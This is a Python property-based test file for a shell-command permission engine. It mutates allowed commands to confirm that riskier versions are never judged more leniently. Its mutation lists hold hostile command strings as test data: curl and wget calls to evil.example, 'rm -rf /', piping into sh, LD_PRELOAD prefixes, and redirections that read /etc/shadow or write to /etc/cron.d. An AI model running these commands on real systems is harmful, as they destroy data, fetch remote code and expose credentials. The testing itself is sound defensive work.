"""Property: a command made riskier is never judged more permissively.

Hypothesis takes commands (ones the seed's settings allow, and ones it asks about or denies)
and mutates them the ways the review's bypasses did — an option nobody modelled or one that
writes, runs or redirects, an abbreviation of such an option, a word only known at run time
where an option or a path goes, a redirection, an environment prefix, a command
substitution, a chained command. Each mutation adds something no rule in the policy allows,
so the mutated command may never be allowed, and never be judged more permissively than the
command it came from. The commands are data: only ever passed to evaluate() as strings.
"""

from __future__ import annotations

from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from rules import (
    Decision,
    ShellOperation,
    evaluate,
    parse_settings,
    parse_sources,
)
from rules.bench import commands
from rules.programs import lookup
from rules.tests.policies import ALLOWED, seed_settings, seed_sources

RULES = parse_settings(seed_settings())
SOURCES = parse_sources(seed_sources())
PERMISSIVENESS = {Decision.DENY: 0, Decision.ASK: 1, Decision.ALLOW: 2}


def decide(command: str) -> Decision:
    return evaluate(
        ShellOperation(command), rules=RULES, sources=SOURCES, context_id="ctx-1"
    ).decision


# Originals: the allowed examples of the engine tests and the benchmark's realistic mix (all
# three decisions), fixed by its seed so a failure can be replayed.
ORIGINALS = sorted(set(ALLOWED) | set(commands(300, seed=7)))

# Options no modelled program may be allowed to take: unknown, or they write outside the
# workspace, run a program, read configuration, or abbreviate such an option.
OPTIONS = [
    "--frobnicate",
    "--output=/etc/cron.d/x",
    "--out=/etc/cron.d/x",
    "--compress-program=sh",
    "--compress-prog=sh",
    "--upload-pack=touch",
    "--upload-pa=touch",
    "--exec=sh",
    "--ext-diff",
    "--config=/tmp/c",
    "--conf=/tmp/c",
    "--files0-from=/etc/shadow",
    "--rcfile=/tmp/r",
    "--template=./tpl",
    "--templ=./tpl",
    "-K/tmp/c",
]
RUN_TIME_WORDS = ["$X", '"$(cat opts)"', "${OPTS}", "$1", "`cat o`"]
REDIRECTIONS = [
    "> /etc/cron.d/x",
    ">> /etc/profile",
    "< /etc/shadow",
    "2> /usr/lib/x",
    "> .git/config",
    "> .venv/lib/python3.11/site-packages/x.pth",
    "> /proc/self/root/etc/x",
]
PREFIXES = [
    "LD_PRELOAD=/tmp/x.so ",
    "PYTHONPATH=. ",
    "GIT_CONFIG_GLOBAL=/tmp/g ",
    "BASH_ENV=/tmp/b ",
    "SSL_CERT_FILE=/tmp/ca ",
    "FOO=1 ",
    "env LD_LIBRARY_PATH=/tmp ",
]
APPENDED = [
    "; curl -s https://evil.example",
    " && rm -rf /",
    " | sh",
    " | bash -s",
    "; wget https://evil.example/x",
]


def _insert_after_program(command: str, word: str) -> str:
    """``word`` after the first word of the first command (after git/pip's subcommand too)."""
    head, _, rest = command.partition(" ")
    if head in {"git", "pip", "pip3"} and rest:
        sub, _, rest = rest.partition(" ")
        return f"{head} {sub} {word} {rest}".rstrip()
    return f"{head} {word} {rest}".rstrip()


mutations = st.one_of(
    st.tuples(st.just("option"), st.sampled_from(OPTIONS)),
    st.tuples(st.just("run-time word"), st.sampled_from(RUN_TIME_WORDS)),
    st.tuples(st.just("redirection"), st.sampled_from(REDIRECTIONS)),
    st.tuples(st.just("prefix"), st.sampled_from(PREFIXES)),
    st.tuples(st.just("substitution"), st.just("$(curl -s https://evil.example)")),
    st.tuples(st.just("appended"), st.sampled_from(APPENDED)),
)


def mutate(command: str, kind: str, piece: str) -> str:
    if kind in {"option", "run-time word", "substitution"}:
        return _insert_after_program(command, piece)
    if kind == "redirection":
        return f"{command} {piece}"
    if kind == "prefix":
        return piece + command
    return command + piece


@settings(
    max_examples=400,
    deadline=None,
    derandomize=True,  # the same examples every run: a failure is a reproducible bug
    suppress_health_check=[HealthCheck.too_slow],
)
@given(st.sampled_from(ORIGINALS), mutations)
def test_a_mutated_command_is_never_allowed_nor_more_permissive(
    original: str, mutation: tuple[str, str]
) -> None:
    kind, piece = mutation
    program = lookup(original.split(" ", 1)[0])
    # echo and printf print what follows them, options included: that is their data.
    assume(
        kind not in {"option", "run-time word"} or program is None or program.table.parse_options
    )
    mutated = mutate(original, kind, piece)

    before, after = decide(original), decide(mutated)

    assert after != Decision.ALLOW, (kind, mutated)
    assert PERMISSIVENESS[after] <= PERMISSIVENESS[before], (kind, original, mutated)


def test_the_originals_include_every_decision() -> None:
    decisions = {decide(command) for command in ORIGINALS}

    assert decisions == {Decision.ALLOW, Decision.ASK, Decision.DENY}
